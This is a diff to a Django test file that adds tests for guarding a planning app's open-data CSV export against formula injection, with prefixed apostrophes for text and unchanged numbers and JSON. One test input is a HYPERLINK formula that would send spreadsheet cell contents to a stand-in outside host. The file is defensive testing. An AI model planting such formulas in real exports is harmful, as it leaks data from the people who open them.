@@ -2,16 +2,18 @@
 CSV in the documented format, without signing in; nothing while the public view is off."""
 
 import csv
+import datetime
 import io
 import json
+from decimal import Decimal
 
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 
 from styr.followup.models import Assessment
-from styr.planning.models import Goal
+from styr.planning.models import Goal, Target
 from styr.web import public as insyn
-from styr.web.open_data import DATASETS, FORMAT_VERSION
+from styr.web.open_data import DATASETS, FORMAT_VERSION, csv_value
 from tests.web.test_public import DRAFT_TITLE, period, public, told, unit  # noqa: F401
 
 
@@ -224,3 +226,62 @@ def test_with_nothing_decided_the_datasets_are_empty_but_there(stockholm, client
         rows = data(client, stockholm, key)["rows"]
         assert len(table(client, stockholm, key)) == len(rows), key
         assert bool(rows) == (key == "units"), key
+
+
+def test_text_that_would_be_a_formula_is_guarded_in_csv_but_numbers_and_json_are_not(
+    public,  # noqa: F811
+    client,
+):
+    """CSV injection: a text cell beginning with = + - @ gets a leading apostrophe, by the type of
+    its column; a negative number stays a number and the JSON keeps the text as written."""
+    formula = '=HYPERLINK("https://example.com/?q="&A1;"Klicka")'
+    goal = public.get(Goal, "SOD-NM-1")
+    goal.title = formula
+    goal.save()
+    # The analysis as it stood when tertial 1 was decided (the open data shows that one).
+    decided = Assessment.objects.get(goal=goal, period=period(public, "t1"))
+    Assessment.history.filter(id=decided.pk).update(analysis="-10 % mot förra året.")
+    target = Target.objects.filter(
+        indicator__goals=goal, year=2026, kind=Target.Kind.ANNUAL
+    ).first()
+    Target.objects.filter(pk=target.pk).update(value=Decimal("-3.5"))
+
+    goals = [r for r in table(client, public, "goals") if r["goal_code"] == "SOD-NM-1"]
+    assert goals and {r["goal_title"] for r in goals} == {"'" + formula}
+    rows = [
+        r
+        for r in table(client, public, "assessments")
+        if r["goal_code"] == "SOD-NM-1" and r["period_key"] == "t1" and r["period_year"] == "2026"
+    ]
+    assert [(r["goal_title"], r["analysis"]) for r in rows] == [
+        ("'" + formula, "'-10 % mot förra året.")
+    ]
+    targets = [
+        r
+        for r in table(client, public, "targets")
+        if r["indicator_code"] == target.indicator.code and r["target_kind"] == "annual"
+    ]
+    assert targets and {r["target_value"] for r in targets} == {"-3,5"}
+    # JSON as written.
+    rows = data(client, public, "assessments")["rows"]
+    assert {r["goal_title"] for r in rows if r["goal_code"] == "SOD-NM-1"} == {formula}
+    assert "-10 % mot förra året." in [r["analysis"] for r in rows]
+    targets = data(client, public, "targets")["rows"]
+    assert -3.5 in [r["target_value"] for r in targets]
+
+
+def test_csv_cells_are_guarded_by_type_not_by_value():
+    assert [csv_value(v) for v in ("@SUM(A1)", "+46 8 508 000", "\tx", "\rx", "Mål -1")] == [
+        "'@SUM(A1)",
+        "'+46 8 508 000",
+        "'\tx",
+        "'\rx",
+        "Mål -1",
+    ]
+    assert [csv_value(v) for v in (Decimal("-3.5"), -2, datetime.date(2026, 1, 1))] == [
+        "-3,5",
+        "-2",
+        "2026-01-01",
+    ]
+    assert csv_value(["-A", "B"]) == "'-A|B"
+    assert csv_value({"=Rubrik": "text"}) == "'=Rubrik: text"
